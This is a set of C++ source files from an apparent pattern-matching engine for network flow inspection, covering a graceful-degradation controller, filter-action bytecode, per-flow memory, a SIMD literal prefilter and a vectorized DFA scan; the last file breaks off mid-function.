    pressure = std::max(pressure,
                        static_cast<double>(signals.reassembly_bytes) /
                            static_cast<double>(signals.reassembly_limit));

  // Deterministic overload for tests: the spike site overrides whatever the
  // real signals say. param carries pressure x100 (so 400 => 4.0).
  if (util::fault_fire("pipeline.overload.spike")) {
    const std::uint64_t p =
        util::FaultRegistry::instance().param("pipeline.overload.spike");
    pressure = std::max(pressure, static_cast<double>(p == 0 ? 400 : p) / 100.0);
  }
  pressure_ = pressure;

  if (!primed_) {
    // First poll seeds the clocks; acting on a zero-length window would make
    // the integral term depend on process start jitter.
    primed_ = true;
    last_update_ = now;
    last_transition_ = now;
    output_ = 0.0;
    return false;
  }

  const double dt =
      std::chrono::duration<double>(now - last_update_).count();
  last_update_ = now;
  const double err = pressure - 1.0;
  integral_ += knobs_.ki * err * std::clamp(dt, 0.0, 1.0);
  integral_ = std::clamp(integral_, -knobs_.integral_clamp, knobs_.integral_clamp);
  output_ = knobs_.kp * err + integral_;

  const auto dwell = std::chrono::milliseconds(knobs_.dwell_ms);
  if (now - last_transition_ < dwell) return false;

  if (output_ > knobs_.escalate_threshold &&
      level_ != DegradeLevel::kL3Bypass) {
    level_ = static_cast<DegradeLevel>(static_cast<std::uint8_t>(level_) + 1);
    last_transition_ = now;
    // Fresh rung, fresh history: accumulated windup from the old operating
    // point would otherwise chain-escalate straight through the ladder.
    integral_ = 0.0;
    return true;
  }
  if (output_ < -knobs_.deescalate_threshold &&
      level_ != DegradeLevel::kL0Full) {
    level_ = static_cast<DegradeLevel>(static_cast<std::uint8_t>(level_) - 1);
    last_transition_ = now;
    integral_ = 0.0;
    return true;
  }
  return false;
}

}  // namespace mfa::pipeline
