// Adaptive graceful-degradation controller (DESIGN.md §14).
//
// Each shard worker owns one DegradeController. The controller closes a loop
// between the shard's observed load signals and a four-rung fidelity ladder:
//
//   L0 full      — every chunk through the exact MFA scan (normal operation)
//   L1 sampled   — 1-in-2^sample_shift flows keep the exact scan; the rest
//                  scan only chunks the literal prefilter flags as suspicious
//   L2 prefilter — detection-only: probe-positive chunks are *recorded*
//                  (mfa_degraded_hits_total) but no automaton advances
//   L3 bypass    — whole bursts shed with ShedReason::kBypass (count-only)
//
// The loop is PI-shaped: a scalar "pressure" (worst of estimated p99 versus
// slo.p99_ns, shed ratio versus slo.max_shed_ratio, reassembly occupancy)
// drives proportional + clamped-integral output; the ladder moves ONE rung
// at a time, gated by a dwell timer and an escalate/de-escalate hysteresis
// band so a single bursty poll can never flap the level. Time is injected
// (steady_clock time_points) so unit tests drive the loop with a fake clock.
//
// A disabled controller (slo.p99_ns == 0 and no forced level) costs nothing
// on the hot path: the worker skips the clock reads and never calls update().
#pragma once

#include <algorithm>
#include <chrono>
#include <cstddef>
#include <cstdint>

namespace mfa::pipeline {

/// Fidelity ladder rung. Numeric order is severity order; the controller
/// only ever moves to an adjacent rung.
enum class DegradeLevel : std::uint8_t {
  kL0Full = 0,
  kL1Sampled = 1,
  kL2PrefilterOnly = 2,
  kL3Bypass = 3,
};

[[nodiscard]] const char* to_string(DegradeLevel level);

/// Service-level objective the controller defends. p99_ns == 0 disables the
/// closed loop entirely (the ladder stays wherever force_level pins it, or
/// at L0).
struct Slo {
  std::uint64_t p99_ns = 0;     ///< end-to-end p99 target; 0 = controller off
  double max_shed_ratio = 0.05; ///< tolerated shed fraction before escalating
};

/// Controller tuning. Defaults are deliberately conservative: escalation
/// needs sustained pressure ~25% over target, and every move waits out a
/// dwell period so transitions are observable, not oscillatory.
struct DegradeKnobs {
  std::uint32_t sample_shift = 3;  ///< L1 keeps 1-in-2^shift flows exact
  std::uint32_t dwell_ms = 50;     ///< minimum time between ladder moves
  double kp = 0.6;                 ///< proportional gain on (pressure - 1)
  double ki = 0.15;                ///< integral gain (per second)
  double integral_clamp = 2.0;     ///< anti-windup bound on the integral term
  double escalate_threshold = 0.25;    ///< output above this → step down a rung
  double deescalate_threshold = 0.20;  ///< output below -this → step back up
  int force_level = -1;  ///< >= 0 pins the ladder (bench sweeps); loop bypassed
};

/// One poll of the shard's load signals, assembled by the worker from state
/// it already owns — no extra synchronization.
struct DegradeSignals {
  std::size_t queue_depth = 0;       ///< shard SPSC occupancy at poll time
  std::size_t batch_size = 1;        ///< burst size (adds to in-flight depth)
  double ns_per_packet = 0.0;        ///< EWMA scan cost per kept packet
  double shed_ratio = 0.0;           ///< windowed shed / submitted fraction
  std::uint64_t reassembly_bytes = 0;   ///< buffered out-of-order bytes
  std::uint64_t reassembly_limit = 0;   ///< per-flow cap * flow budget; 0 = off
};

class DegradeController {
 public:
  using Clock = std::chrono::steady_clock;

  DegradeController() = default;
  DegradeController(Slo slo, DegradeKnobs knobs) : slo_(slo), knobs_(knobs) {
    if (knobs_.force_level >= 0)
      level_ = static_cast<DegradeLevel>(
          std::min(knobs_.force_level, 3));
  }

  /// True when update() should be called at all. A pinned ladder counts as
  /// enabled so bench sweeps still publish the level gauge.
  [[nodiscard]] bool enabled() const {
    return slo_.p99_ns != 0 || knobs_.force_level >= 0;
  }

  [[nodiscard]] DegradeLevel level() const { return level_; }
  [[nodiscard]] const Slo& slo() const { return slo_; }
  [[nodiscard]] const DegradeKnobs& knobs() const { return knobs_; }

  /// Introspection for tests: last computed pressure / PI output.
  [[nodiscard]] double pressure() const { return pressure_; }
  [[nodiscard]] double output() const { return output_; }

  /// Close the loop once. Returns true when the ladder moved (the caller
  /// re-programs the inspector's scan mode and records the transition).
  /// `now` is injected so tests can drive dwell with a fake clock; the
  /// "pipeline.overload.spike" fault site forces pressure high (param =
  /// pressure x100, default 400 => pressure 4.0) for deterministic ladder
  /// walks under test.
  bool update(const DegradeSignals& signals, Clock::time_point now);

 private:
  Slo slo_{};
  DegradeKnobs knobs_{};
  DegradeLevel level_ = DegradeLevel::kL0Full;
  double integral_ = 0.0;
  double pressure_ = 0.0;
  double output_ = 0.0;
  bool primed_ = false;                ///< first update seeds the clock only
  Clock::time_point last_update_{};
  Clock::time_point last_transition_{};
};

}  // namespace mfa::pipeline
