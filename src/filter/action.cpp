#include "filter/action.h"

#include <sstream>

namespace mfa::filter {

std::string Action::to_pseudocode() const {
  std::ostringstream out;
  bool have_guard = false;
  if (test != kNone) {
    out << "Test " << test;
    have_guard = true;
  }
  if (ctr_test != kNone) {
    out << (have_guard ? " and " : "") << "Counter " << ctr_test << " >= " << ctr_threshold;
    have_guard = true;
  }
  std::vector<std::string> effects;
  if (clear != kNone) effects.push_back("Clear " + std::to_string(clear));
  if (set != kNone) effects.push_back("Set " + std::to_string(set));
  if (ctr_incr != kNone) effects.push_back("Increment " + std::to_string(ctr_incr));
  if (report != kNone) effects.push_back("Match " + std::to_string(report));
  if (effects.empty()) effects.push_back("Nop");
  if (have_guard) out << " to ";
  for (std::size_t i = 0; i < effects.size(); ++i) {
    if (i > 0) out << (i + 1 == effects.size() ? " and " : ", ");
    out << effects[i];
  }
  return out.str();
}

}  // namespace mfa::filter
