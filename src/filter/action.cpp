#include "filter/action.h"

#include <sstream>

namespace mfa::filter {

std::string Action::to_pseudocode() const {
  std::ostringstream out;
  bool have_guard = false;
  if (test != kNone) {
    out << "Test " << test;
    have_guard = true;
  }
  if (ctr_test != kNone) {
    out << (have_guard ? " and " : "") << "Counter " << ctr_test << " >= " << ctr_threshold;
    have_guard = true;
  }
  std::vector<std::string> effects;
  if (clear != kNone) effects.push_back("Clear " + std::to_string(clear));
  if (set != kNone) effects.push_back("Set " + std::to_string(set));
  if (ctr_incr != kNone) effects.push_back("Increment " + std::to_string(ctr_incr));
  if (report != kNone) effects.push_back("Match " + std::to_string(report));
  if (effects.empty()) effects.push_back("Nop");
  if (have_guard) out << " to ";
  for (std::size_t i = 0; i < effects.size(); ++i) {
    if (i > 0) out << (i + 1 == effects.size() ? " and " : ", ");
    out << effects[i];
  }
  return out.str();
}

bool Program::validate(std::string* error) const {
  const auto fail = [&](const std::string& why) {
    if (error != nullptr) *error = why;
    return false;
  };
  if (memory_bits > kMaxMemoryBits)
    return fail("program declares " + std::to_string(memory_bits) +
                " memory bits; the per-flow Memory caps at " +
                std::to_string(kMaxMemoryBits) +
                " (reduce the pattern set or shard it across engines)");
  const auto bit_ok = [&](std::int32_t b) {
    return b == kNone || (b >= 0 && static_cast<std::uint32_t>(b) < memory_bits);
  };
  const auto ctr_ok = [&](std::int32_t c) {
    return c == kNone || (c >= 0 && static_cast<std::uint32_t>(c) < counters);
  };
  const auto slot_ok = [&](std::int32_t s) {
    return s == kNone || (s >= 0 && static_cast<std::uint32_t>(s) < position_slots);
  };
  for (std::size_t i = 0; i < actions.size(); ++i) {
    const Action& a = actions[i];
    if (!bit_ok(a.test) || !bit_ok(a.set) || !bit_ok(a.clear))
      return fail("action " + std::to_string(i) + " references a bit outside [0, " +
                  std::to_string(memory_bits) + ")");
    if (!ctr_ok(a.ctr_test) || !ctr_ok(a.ctr_incr))
      return fail("action " + std::to_string(i) + " references a counter outside [0, " +
                  std::to_string(counters) + ")");
    if (!slot_ok(a.set_slot) || !slot_ok(a.test_slot))
      return fail("action " + std::to_string(i) +
                  " references a position slot outside [0, " +
                  std::to_string(position_slots) + ")");
  }
  return true;
}

}  // namespace mfa::filter
