// Filter engine: executes filter actions against per-flow bit memory.
//
// The Filter Engine of Fig. 1. It receives (engine match id, position)
// events from the character DFA, looks up the single action for that id,
// updates the w-bit memory and decides Confirm/Drop (paper Sec. III-A's
// f : M x Di -> M x {Confirm, Drop}).
#pragma once

#include <array>
#include <cassert>
#include <cstdint>
#include <cstring>
#include <vector>

#include "filter/action.h"

namespace mfa::filter {

/// Per-flow filter memory: bit flags plus optional counters, zeroed by
/// convention (paper Sec. III-A). The first kInlineMemoryBits flags live in
/// a fixed inline array — programs that fit it (the common case) never
/// heap-allocate bit storage. Larger programs (Snort-class rulesets
/// decompose into thousands of guard bits) spill the rest into `ext_`,
/// sized once at construction from the program's declared geometry.
class Memory {
 public:
  Memory() = default;
  explicit Memory(std::uint32_t counters, std::uint32_t position_slots = 0,
                  std::uint32_t bits = 0)
      : counters_(counters, 0), positions_(position_slots, 0) {
    if (bits > kInlineMemoryBits)
      ext_.assign((bits - kInlineMemoryBits + 63) / 64, 0);
  }

  void reset() {
    bits_.fill(0);
    std::fill(ext_.begin(), ext_.end(), 0);
    std::fill(counters_.begin(), counters_.end(), 0);
    std::fill(positions_.begin(), positions_.end(), 0);
  }

  void set_bit(std::int32_t i) { word(i) |= 1ULL << (i & 63); }
  void clear_bit(std::int32_t i) { word(i) &= ~(1ULL << (i & 63)); }
  [[nodiscard]] bool test_bit(std::int32_t i) const {
    return (word(i) >> (i & 63)) & 1ULL;
  }

  void increment(std::int32_t c) { ++counters_[c]; }
  [[nodiscard]] std::uint32_t counter(std::int32_t c) const { return counters_[c]; }

  /// Record the earliest position a gap-tracked bit fired at.
  void record_position(std::int32_t slot, std::uint64_t pos) { positions_[slot] = pos; }
  [[nodiscard]] std::uint64_t position(std::int32_t slot) const { return positions_[slot]; }

  /// Bytes of per-flow state this memory contributes (w bits rounded to
  /// words + counters + position slots); Sec. III-A prefers small contexts
  /// for many-flow environments.
  [[nodiscard]] static std::size_t context_bytes(std::uint32_t bits, std::uint32_t counters,
                                                 std::uint32_t position_slots = 0) {
    return ((bits + 63) / 64) * 8 + counters * sizeof(std::uint32_t) +
           position_slots * sizeof(std::uint64_t);
  }

 private:
  [[nodiscard]] std::uint64_t& word(std::int32_t i) {
    assert(i >= 0 && static_cast<std::uint32_t>(i) <
                         kInlineMemoryBits + ext_.size() * 64);
    const auto u = static_cast<std::uint32_t>(i);
    return u < kInlineMemoryBits ? bits_[u >> 6]
                                 : ext_[(u - kInlineMemoryBits) >> 6];
  }
  [[nodiscard]] const std::uint64_t& word(std::int32_t i) const {
    assert(i >= 0 && static_cast<std::uint32_t>(i) <
                         kInlineMemoryBits + ext_.size() * 64);
    const auto u = static_cast<std::uint32_t>(i);
    return u < kInlineMemoryBits ? bits_[u >> 6]
                                 : ext_[(u - kInlineMemoryBits) >> 6];
  }

  std::array<std::uint64_t, kInlineMemoryBits / 64> bits_{};
  std::vector<std::uint64_t> ext_;  ///< overflow words for bits >= kInlineMemoryBits
  std::vector<std::uint32_t> counters_;
  std::vector<std::uint64_t> positions_;
};

/// The paper's per-flow (q, m) pair: character-automaton state + filter
/// memory. This is the shared Context type of every filter-backed engine
/// (MFA, HFA, XFA) under the Engine/Context split: one immutable engine is
/// shared by all flows/threads, one ScanContext is kept per flow.
struct ScanContext {
  std::uint32_t state = 0;
  Memory memory;
};

/// Memory view over a single 64-bit word split into two 32-bit halves, for
/// programs whose filter state fits one word (memory_bits <= 64, no
/// counters, no position slots — the common case the paper optimizes for).
/// Backing the halves separately keeps the embedding struct 4-byte aligned,
/// so a hot-table slot can hold the full (q, m) in 12 bytes. Counter and
/// position methods exist only so Engine::on_match<InlineMemory64>
/// compiles; programs eligible for inline memory never reach them.
class InlineMemory64 {
 public:
  InlineMemory64(std::uint32_t& lo, std::uint32_t& hi) : lo_(&lo), hi_(&hi) {}

  void set_bit(std::int32_t i) {
    assert(i >= 0 && i < 64);
    word(i) |= 1U << (i & 31);
  }
  void clear_bit(std::int32_t i) {
    assert(i >= 0 && i < 64);
    word(i) &= ~(1U << (i & 31));
  }
  [[nodiscard]] bool test_bit(std::int32_t i) const {
    assert(i >= 0 && i < 64);
    return (word(i) >> (i & 31)) & 1U;
  }

  void increment(std::int32_t) { assert(false && "inline memory has no counters"); }
  [[nodiscard]] std::uint32_t counter(std::int32_t) const {
    assert(false && "inline memory has no counters");
    return 0;
  }
  void record_position(std::int32_t, std::uint64_t) {
    assert(false && "inline memory has no position slots");
  }
  [[nodiscard]] std::uint64_t position(std::int32_t) const {
    assert(false && "inline memory has no position slots");
    return 0;
  }

 private:
  [[nodiscard]] std::uint32_t& word(std::int32_t i) { return i < 32 ? *lo_ : *hi_; }
  [[nodiscard]] const std::uint32_t& word(std::int32_t i) const {
    return i < 32 ? *lo_ : *hi_;
  }

  std::uint32_t* lo_;
  std::uint32_t* hi_;
};

/// Stateless executor over a Program; all mutable state lives in Memory so
/// one Engine serves any number of multiplexed flows.
class Engine {
 public:
  explicit Engine(const Program& program) : program_(&program) {}

  /// Process one match event. Calls sink(report_id, pos) if the action
  /// confirms the match. Templated over the memory representation so the
  /// same action semantics run against the full Memory or an InlineMemory64
  /// view (tiered flow table hot slots).
  template <typename MemoryT, typename Sink>
  void on_match(std::uint32_t engine_id, std::uint64_t pos, MemoryT& memory,
                Sink&& sink) const {
    const Action& a = program_->actions[engine_id];
    if (a.test != kNone) {
      if (!memory.test_bit(a.test)) return;
      // Gap extension: the tested bit must also have fired far enough back.
      if (a.min_gap > 0 &&
          pos - memory.position(a.test_slot) < static_cast<std::uint64_t>(a.min_gap))
        return;
    }
    if (a.ctr_test != kNone &&
        memory.counter(a.ctr_test) < static_cast<std::uint32_t>(a.ctr_threshold))
      return;
    if (a.clear != kNone) memory.clear_bit(a.clear);
    if (a.set != kNone) {
      // Earliest-position semantics: only the first Set of a still-clear
      // bit records its offset (any later A-match can only shrink the gap).
      if (a.set_slot != kNone && !memory.test_bit(a.set))
        memory.record_position(a.set_slot, pos);
      memory.set_bit(a.set);
    }
    if (a.ctr_incr != kNone) memory.increment(a.ctr_incr);
    if (a.report != kNone) sink(static_cast<std::uint32_t>(a.report), pos);
  }

  [[nodiscard]] const Program& program() const { return *program_; }

 private:
  const Program* program_;
};

}  // namespace mfa::filter
