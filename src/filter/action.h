// Match-filter bytecode (paper Sec. IV-C).
//
// The paper encodes each filter action as 4 integers: a memory bit that
// must be set for the action to take effect (test), a bit to set, a bit to
// clear, and the match id to report. We keep exactly that encoding and add
// the counter fields the paper's future-work section (Sec. VI) sketches for
// counting constraints; the default splitter never emits counters, but the
// engine and tests support them.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

namespace mfa::filter {

inline constexpr std::int32_t kNone = -1;

/// Bits backed by Memory's fixed inline words; programs up to this size
/// never heap-allocate bit storage (the common small-ruleset case).
inline constexpr std::uint32_t kInlineMemoryBits = 256;

/// Sanity cap on per-flow bit memory, enforced by Program::validate().
/// Memory grows its bit storage to the program's declared geometry
/// (Snort-class rulesets decompose into thousands of guard bits), so this
/// is a corruption guard against absurd declared geometry, not a design
/// limit: 1M bits is ~128 KB of per-flow state, far past any deployable
/// configuration.
inline constexpr std::uint32_t kMaxMemoryBits = 1u << 20;

struct Action {
  std::int32_t test = kNone;    ///< bit that must be 1 for this action to fire
  std::int32_t set = kNone;     ///< bit set when the action fires
  std::int32_t clear = kNone;   ///< bit cleared when the action fires
  std::int32_t report = kNone;  ///< original match id to report, or kNone

  // Counter extension (Sec. VI): optional guard "counter >= threshold" and
  // optional post-increment.
  std::int32_t ctr_test = kNone;       ///< counter that must reach ctr_threshold
  std::int32_t ctr_threshold = 0;
  std::int32_t ctr_incr = kNone;       ///< counter to increment when firing

  // Offset-tracking extension (Sec. VI "tracking the offsets of previous
  // matches"): a Set with `set_slot` records the *earliest* position its
  // bit fired at; a Test with `min_gap` additionally requires
  // pos - position(test_slot) >= min_gap. This decomposes `.*A.{n,}B`
  // patterns, and the offset requirement subsumes the overlap safety check
  // (a B-match satisfying the gap necessarily starts after A ends).
  std::int32_t set_slot = kNone;   ///< slot recorded when the Set fires
  std::int32_t test_slot = kNone;  ///< slot of the tested bit (with min_gap)
  std::int32_t min_gap = 0;        ///< required pos - recorded distance on Test

  /// Same-position execution rank (lower runs first). The splitter assigns
  /// ranks so that within one pattern, actions run in *reverse* segment
  /// order: a Test of bit i always executes before the same-position Set of
  /// bit i. This is load-bearing: `.*b.*ab` on input "ab" has the b-piece
  /// and ab-piece co-ending, and the original semantics ("ab" strictly
  /// after "b") require the ab-side Test to read the memory before the
  /// b-side Set lands — otherwise a whole guard chain can falsely cascade
  /// through a single input position. Clears rank just below their setter
  /// (paper Sec. IV-B's override rule). Bits are never shared across
  /// patterns, so cross-pattern rank order is irrelevant.
  std::int32_t order = 0;

  friend bool operator==(const Action&, const Action&) = default;

  /// True if the action does nothing but report unconditionally.
  [[nodiscard]] bool is_plain_report() const {
    return test == kNone && set == kNone && clear == kNone && ctr_test == kNone &&
           ctr_incr == kNone && report != kNone;
  }

  /// Pseudocode rendering, e.g. "Test 0 to Set 1" (paper Tables III/IV).
  [[nodiscard]] std::string to_pseudocode() const;
};

/// Comparator for same-position execution: ascending `order`, ties broken
/// by engine id for determinism (cross-pattern actions touch disjoint bits,
/// so tie order cannot affect results).
struct ActionOrderLess {
  const std::vector<Action>* actions;
  bool operator()(std::uint32_t a, std::uint32_t b) const {
    const std::int32_t oa = (*actions)[a].order;
    const std::int32_t ob = (*actions)[b].order;
    if (oa != ob) return oa < ob;
    return a < b;
  }
};

/// A complete filter program: one action per engine match id, plus the
/// memory geometry every per-flow context must provide.
struct Program {
  std::vector<Action> actions;   ///< indexed by engine match id
  std::uint32_t memory_bits = 0;
  std::uint32_t counters = 0;
  std::uint32_t position_slots = 0;  ///< offset-tracking slots (gap extension)

  /// Image accounting: the 4 (+3 extension) int32 fields per action, as the
  /// paper stores them ("filters taking up an average of less than 0.2% of
  /// each image", Sec. V-C).
  [[nodiscard]] std::size_t memory_image_bytes() const {
    return actions.size() * sizeof(Action);
  }

  /// Geometry check: memory_bits within kMaxMemoryBits and every action
  /// operand inside the declared geometry. Engine builders reject programs
  /// that fail this instead of letting a >256-bit program alias flags at
  /// scan time. On failure, fills `error` (when non-null) with the reason.
  [[nodiscard]] bool validate(std::string* error = nullptr) const;
};

}  // namespace mfa::filter
