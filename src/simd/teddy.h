// Teddy-style shuffle-based multi-literal matcher (the Hyperscan prefilter
// design; DESIGN.md §13). Literals are hashed into 8 buckets; per mask
// position (up to 3 leading bytes) two 16-entry nibble tables map a byte to
// the buckets it could belong to, so one shuffle+AND per position scores 32
// candidate start positions at once under AVX2. Survivors are confirmed
// against the bucket's literals; a bounded confirm budget turns pathological
// inputs into "candidate found" (a false positive) rather than O(n*m) work.
//
// Guarantee: matches() never returns false when a literal occurs fully
// inside the buffer — false negatives are impossible, false positives are
// possible (and harmless: callers fall back to the full scan).
#pragma once

#include <array>
#include <cstddef>
#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "simd/kernel.h"

namespace mfa::simd {

class Teddy {
 public:
  /// Literal-set size cap: beyond this the nibble masks saturate and the
  /// prefilter stops paying for itself.
  static constexpr std::size_t kMaxLiterals = 128;

  /// Compile a literal set; nullopt when the set is empty, contains an
  /// empty literal, or exceeds kMaxLiterals. With `icase`, matching is
  /// ASCII-case-insensitive — exact, not approximate: case variants differ
  /// only in one high-nibble bit, so carrying both variants in the masks
  /// admits exactly the two cased forms.
  static std::optional<Teddy> compile(std::vector<std::string> literals, bool icase);

  /// True iff some literal occurs fully inside [data, data+len) — modulo
  /// bounded false positives (see header comment), never false negatives.
  [[nodiscard]] bool matches(const std::uint8_t* data, std::size_t len) const;

  [[nodiscard]] std::size_t min_len() const { return min_len_; }
  [[nodiscard]] std::size_t max_len() const { return max_len_; }
  [[nodiscard]] std::size_t literal_count() const { return lits_.size(); }
  [[nodiscard]] bool icase() const { return icase_; }
  [[nodiscard]] const std::vector<std::string>& literals() const { return lits_; }

 private:
  [[nodiscard]] bool confirm_at(const std::uint8_t* data, std::size_t len,
                                std::size_t pos, std::uint8_t buckets) const;
  [[nodiscard]] bool matches_range(const std::uint8_t* data, std::size_t len,
                                   std::size_t from, std::size_t& budget) const;

  TeddyTables tables_{};
  bool icase_ = false;
  std::size_t min_len_ = 0;
  std::size_t max_len_ = 0;
  std::vector<std::string> lits_;  ///< case-folded when icase_
  std::array<std::vector<std::uint32_t>, 8> buckets_{};
};

}  // namespace mfa::simd
