// Literal prefilter with DFA-verified skip gating (DESIGN.md §13).
//
// Compiled from the splitter's pieces: each piece contributes an or-list of
// required factors (split/literals.h); the union compiles into a Teddy
// matcher. A chunk with no literal occurrence is a *candidate* for skipping
// the full MFA scan — but candidate-ness alone is not sufficient in a
// streaming scanner, so the skip gate is only armed after the properties
// below are PROVEN on the compiled character DFA itself (never trusted
// from the extraction heuristic).
//
// The proof object is the full product closure F of (AC state, DFA state)
// pairs reachable from (root, start) over ALL byte transitions, where AC is
// a dense Aho-Corasick automaton over the same folded literal set Teddy
// confirms against. Every real execution's (AC, DFA) pair stays inside F by
// induction, so per-DFA-state *candidate* AC states read straight off F.
// An edge is "loud" when a literal completes on it (AC hit, including via
// fail links) and "quiet" otherwise. Three facts are then checked:
//
//   (i)  taint: a pair that can reach an accepting DFA state along a quiet
//        path could accept inside a literal-free chunk. Any state with a
//        tainted pair is excluded from skipping (its chunks always scan).
//   (ii) ψ-determinism: over the quiet sub-closure walked from (root,
//        start) and from every pair of a skippable state, the target DFA
//        state must be a function of the target AC state alone. The AC
//        state after >= window quiet bytes depends only on the last
//        window bytes, so replaying just the chunk's tail from the start
//        state reconstructs the exact post-chunk state.
//   (iii) boundary: a literal may span the previous/current chunk seam.
//        Progress toward one is part of the candidate AC states, so the
//        gate re-walks the first window bytes of each chunk from every
//        candidate (boundary_quiet()) and falls back to a full scan on
//        any hit. Together with Teddy over the chunk body this makes the
//        whole chunk provably quiet before a skip.
//
// If any check fails — or extraction finds no literal for some piece — the
// prefilter still compiles where possible but the gate stays disarmed:
// always correct, at worst not faster. Teddy false positives only force a
// normal scan; they can never change match output.
#pragma once

#include <array>
#include <cstddef>
#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "simd/teddy.h"

namespace mfa::dfa {
class Dfa;
}
namespace mfa::split {
struct Piece;
}

namespace mfa::simd {

/// Outcome of an engine's prefilter gate for one chunk (what the flow layer
/// counts as mfa_prefilter_{pass,skip}_total).
enum class Gate : std::uint8_t {
  kNone,  ///< gate not armed / flow mid-pattern / chunk too small: plain feed
  kScan,  ///< literal candidate present: full scan required ("pass")
  kSkip,  ///< proven literal-free: scan skipped, tail replayed ("skip")
};

class Prefilter {
 public:
  Prefilter() = default;

  /// Compile from the character DFA + decomposed pieces. Never fails hard:
  /// enabled()/gate_enabled() report how far compilation got, status() says
  /// why it stopped.
  static Prefilter build(const dfa::Dfa& dfa,
                         const std::vector<split::Piece>& pieces, bool icase);

  /// Teddy masks compiled: matches() is meaningful.
  [[nodiscard]] bool enabled() const { return teddy_.has_value(); }

  /// The DFA-level proof went through (and MFA_PREFILTER isn't off): a
  /// literal-free chunk may skip the full scan.
  [[nodiscard]] bool gate_enabled() const { return gate_ok_ && enabled(); }

  /// Lookback window (max literal length - 1): after a skipped chunk, the
  /// last window() bytes replayed from the start state land in the exact
  /// post-chunk DFA state (property (ii) above).
  [[nodiscard]] std::size_t window() const { return window_; }

  /// Should this chunk take the gated path? Requires the proof, the flow
  /// sitting in a skippable DFA state (untainted, quiet-reachable), and a
  /// chunk big enough that skipping beats feeding (the boundary check and
  /// tail replay cost 2*window() bytes regardless).
  [[nodiscard]] bool should_gate(std::uint32_t dfa_state,
                                 std::size_t size) const {
    return gate_ok_ && dfa_state < skippable_.size() &&
           skippable_[dfa_state] && size >= kMinGateBytes &&
           size > 2 * window_;
  }

  /// Boundary re-check (property (iii)): walk the AC from every candidate
  /// AC state of `dfa_state` over the first window() bytes of the chunk.
  /// Returns false if any literal could complete across the chunk seam —
  /// the caller must then scan the chunk in full. Only meaningful after
  /// should_gate() returned true.
  [[nodiscard]] bool boundary_quiet(std::uint32_t dfa_state,
                                    const std::uint8_t* data,
                                    std::size_t size) const;

  /// True iff some literal occurs fully inside the buffer (bounded false
  /// positives, never false negatives).
  [[nodiscard]] bool matches(const std::uint8_t* data, std::size_t len) const {
    return teddy_->matches(data, len);
  }

  /// Detection-only probe for degraded scan modes (DESIGN.md §14): "could
  /// this chunk contain a match?" with no DFA state involved. Conservative
  /// when the Teddy masks never compiled — a prefilter that cannot prove
  /// absence reports everything as suspicious, so degraded modes fall back
  /// to scanning rather than silently dropping detections.
  [[nodiscard]] bool probe(const std::uint8_t* data, std::size_t len) const {
    return !enabled() || matches(data, len);
  }

  /// Why the gate (or the whole prefilter) is off; "ok" when fully armed.
  [[nodiscard]] const char* status() const { return status_; }
  [[nodiscard]] std::size_t literal_count() const {
    return teddy_.has_value() ? teddy_->literal_count() : 0;
  }
  [[nodiscard]] const Teddy* teddy() const {
    return teddy_.has_value() ? &*teddy_ : nullptr;
  }

  /// Below this chunk size the gate never triggers — Teddy setup plus tail
  /// replay would eat the saving.
  static constexpr std::size_t kMinGateBytes = 64;

 private:
  std::optional<Teddy> teddy_;
  bool gate_ok_ = false;
  bool icase_ = false;
  std::size_t window_ = 0;
  const char* status_ = "empty";
  // Gate proof artifacts (verify() in prefilter.cpp). The AC is kept for
  // the runtime boundary walk; candidates are the AC states each skippable
  // DFA state can be paired with in the product closure, flattened as
  // [cand_off_[s], cand_off_[s+1]) ranges into cand_.
  std::vector<std::array<std::uint16_t, 256>> ac_delta_;
  std::vector<bool> ac_hit_;
  std::vector<bool> skippable_;          // indexed by DFA state
  std::vector<std::uint32_t> cand_off_;  // dfa state_count + 1 entries
  std::vector<std::uint16_t> cand_;
};

}  // namespace mfa::simd
