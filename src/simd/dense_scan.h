// Vectorized K-way interleaved scan over a dense row-major u32 transition
// table — the AVX2 sibling of scan::interleaved_scan, with identical
// semantics: per-job byte order (and therefore per-flow match semantics) is
// exactly Engine::feed's, only cross-job work is data-parallel. Dfa::feed_many
// and Mfa::feed_many route here; on non-AVX2 hosts (or under MFA_SIMD=scalar)
// everything falls through to the scalar interleaved kernel, so this header
// is safe to use unconditionally.
#pragma once

#include <algorithm>
#include <cstddef>
#include <cstdint>

#include "simd/dispatch.h"
#include "simd/kernel.h"
#include "util/interleave.h"

namespace mfa::simd {

/// Advance `count` independent jobs through a dense table, up to `lanes` in
/// lockstep; accept(job_index, state, end_offset) fires on every accepting
/// state entered. Jobs must reference distinct contexts (their .state is
/// read at lane fill and written back at retirement, as in interleaved_scan).
template <typename Context, typename AcceptFn>
void dense_interleaved_scan(const std::uint32_t* table, std::uint32_t ncols,
                            const std::uint8_t* cols, std::uint32_t naccept,
                            scan::FeedJob<Context>* jobs, std::size_t count,
                            std::size_t lanes, AcceptFn&& accept) {
  // The gather kernel is fixed at 8 lanes; narrower requests (CompactDfa's
  // sequential clamp, tiny batches) keep the scalar kernel, which handles
  // any width.
  if (level() != Level::kAvx2 || lanes < 8 || count < 2) {
    scan::interleaved_scan(
        jobs, count, lanes, naccept,
        [=](std::uint32_t s, std::uint8_t b) {
          return table[static_cast<std::size_t>(s) * ncols + cols[b]];
        },
        [=](std::uint32_t s) {
          scan::prefetch_ro(table + static_cast<std::size_t>(s) * ncols);
        },
        accept);
    return;
  }

  constexpr std::size_t kLanes = 8;
  std::uint32_t state[kLanes];
  const std::uint8_t* data[kLanes];
  std::size_t pos[kLanes];
  std::size_t size[kLanes];
  std::uint64_t base[kLanes];
  std::size_t job_ix[kLanes];

  std::size_t next = 0;
  std::size_t active = 0;
  const auto fill = [&] {
    while (active < kLanes && next < count) {
      const scan::FeedJob<Context>& j = jobs[next];
      if (j.size == 0) {
        ++next;
        continue;
      }
      state[active] = j.ctx->state;
      data[active] = j.data;
      pos[active] = 0;
      size[active] = j.size;
      base[active] = j.base;
      job_ix[active] = next;
      ++active;
      ++next;
    }
  };
  fill();

  // Accept trampoline: the AVX2 TU takes a C function pointer, so the
  // caller's AcceptFn is re-typed through this capture block. Padded lanes
  // (>= active) are decoys and never reported.
  struct Hook {
    AcceptFn* fn;
    const std::size_t* job_ix;
    const std::uint64_t* base;
    const std::size_t* pos;
    std::size_t active;
  };

  while (active > 0) {
    std::size_t chunk = size[0] - pos[0];
    for (std::size_t j = 1; j < active; ++j)
      chunk = std::min(chunk, size[j] - pos[j]);

